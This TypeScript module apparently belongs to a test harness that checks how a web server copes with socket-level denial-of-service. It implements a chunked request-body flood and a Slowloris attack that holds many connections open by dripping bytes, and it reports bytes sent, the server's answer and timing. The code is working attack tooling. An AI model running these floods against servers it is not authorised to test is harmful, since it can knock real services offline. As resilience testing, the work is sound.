import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/* Attacks at socket level. */

export interface BodyFlood {
  /** Bytes that the server accepted before it answered or closed the connection. */
  sentBytes: number;
  /** Status line of the answer; empty if the server only closed the connection. */
  answer: string;
  tookMs: number;
}

const PIECE = Buffer.alloc(64 * 1024, 0x61);
const FLOOD_LIMIT_MS = 60_000;

function opened(base: string): Socket {
  const { hostname, port } = new URL(base);
  const socket = connect({
    host: hostname === 'localhost' ? '127.0.0.1' : hostname,
    port: Number(port),
  });
  socket.on('error', () => undefined);
  return socket;
}

const gone = (socket: Socket) =>
  new Promise<void>((resolve) => {
    if (socket.closed) resolve();
    else socket.once('close', () => resolve());
  });

/**
 * Sends an endless chunked body, up to `maxBytes`, until the server answers or closes the
 * connection.
 */
export async function floodBody(
  base: string,
  path: string,
  headers: Record<string, string>,
  maxBytes: number,
): Promise<BodyFlood> {
  const socket = opened(base);
  const begun = performance.now();
  let answer = '';
  let isOver = false;
  socket.on('data', (chunk: Buffer) => {
    answer ||= chunk.toString('latin1').split('\r\n')[0] ?? '';
    isOver = true;
  });
  const closed = gone(socket).then(() => (isOver = true));
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  socket.write(
    `POST ${path} HTTP/1.1\r\nHost: ${new URL(base).host}\r\nTransfer-Encoding: chunked\r\n${lines.join('')}\r\n`,
  );
  let sentBytes = 0;
  const late = setTimeout(() => socket.destroy(), FLOOD_LIMIT_MS);
  while (!isOver && sentBytes < maxBytes) {
    const isTaken = socket.write(
      Buffer.concat([Buffer.from(`${PIECE.length.toString(16)}\r\n`), PIECE, Buffer.from('\r\n')]),
    );
    sentBytes += PIECE.length;
    if (!isTaken) {
      await Promise.race([new Promise((go) => socket.once('drain', go)), closed]);
    }
  }
  const tookMs = performance.now() - begun;
  if (!isOver) await Promise.race([closed, sleep(1_000)]);
  clearTimeout(late);
  socket.destroy();
  await gone(socket);
  return { sentBytes, answer, tookMs };
}

export interface Loris {
  /** Connections that the server still keeps open. */
  held: () => number;
  stop: () => Promise<void>;
}

const DRIP_EVERY_MS = 500;

/**
 * Slowloris attack: opens connections that never finish their request and send a byte now and then
 * to stay open.
 */
export function startLoris(base: string, count: number, part: 'headers' | 'body'): Loris {
  const start =
    part === 'headers'
      ? `GET / HTTP/1.1\r\nHost: ${new URL(base).host}\r\nX-Slow: `
      : `POST /api/store/cart/ HTTP/1.1\r\nHost: ${new URL(base).host}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`;
  const sockets = Array.from({ length: count }, () => {
    const socket = opened(base);
    socket.resume();
    socket.write(start);
    return socket;
  });
  const timer = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write('a');
  }, DRIP_EVERY_MS);
  return {
    held: () => sockets.filter((socket) => !socket.destroyed).length,
    stop: async () => {
      clearInterval(timer);
      for (const socket of sockets) socket.destroy();
      await Promise.all(sockets.map(gone));
    },
  };
}
